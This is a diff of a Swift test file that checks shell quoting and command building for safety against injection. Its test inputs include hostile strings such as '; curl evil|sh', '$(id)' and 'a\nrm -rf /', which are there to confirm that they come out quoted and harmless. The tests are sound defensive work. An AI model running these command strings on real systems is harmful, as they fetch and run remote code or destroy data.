@@ -17,13 +17,12 @@ import Testing
             keeper: keeper)
     }
 
-    @Test(arguments: [
-        ("/a/b-c_d.e:f,g@h%i+j=", "/a/b-c_d.e:f,g@h%i+j="), ("a b", "'a b'"), ("it's", #"'it'\''s'"#),
-        ("$(x)", "'$(x)'"), ("ä", "'ä'"), ("*", "'*'"), ("; curl evil|sh", "'; curl evil|sh'"),
-    ])
-    func wordsAreQuoted(text: String, word: String) {
-        #expect(ShellWord.quoted(text) == word)
-        #expect(ShellCommand.list(text)?.text == "ls -ld " + word)
+    @Test func aShellReadsBackWhatWasQuoted() throws {
+        let words = ["a b", "it's", "$(id)", "`id`", "a;b", "*", "~", "#", "é", "\"", "\\", "line\nbreak", "!", ""]
+        let command = "printf '%s\\0' " + words.map(ShellWord.quoted).joined(separator: " ")
+        #expect(try run(["sh", "-c", command]).output == words.map { $0 + "\0" }.joined())
+        #expect(ShellCommand.list("/a/b-c_d.e:f,g@h%i+j=")?.text == "ls -ld /a/b-c_d.e:f,g@h%i+j=")
+        #expect(ShellCommand.list("; curl evil|sh")?.text == "ls -ld '; curl evil|sh'")
     }
 
     @Test(arguments: ["a\u{1B}[2J", "a\nrm -rf /", "\u{202E}", "a\u{FFFD}", "\u{7F}"])
